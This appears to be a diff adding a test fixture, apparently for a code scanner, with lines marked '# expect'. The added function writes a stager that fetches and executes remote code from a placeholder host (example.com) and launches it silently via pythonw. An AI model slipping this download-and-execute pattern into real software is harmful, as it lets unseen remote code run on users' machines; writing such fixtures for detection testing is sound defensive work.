@@ -14,3 +14,10 @@ script = "/tmp/worker.py"
 with open(script, "w") as f:
     f.write("import os, sys, subprocess\nprint(os.getpid())\n")
 subprocess.Popen([sys.executable, script])  # expect
+
+
+def fetch_later():
+    stage = tempfile.NamedTemporaryFile("w", delete=False)
+    stage.write("from urllib.request import urlopen;exec(urlopen('https://example.com/stage').read())")
+    stage.close()
+    os.system(f"start {sys.executable.replace('.exe', 'w.exe')} {stage.name}")  # expect
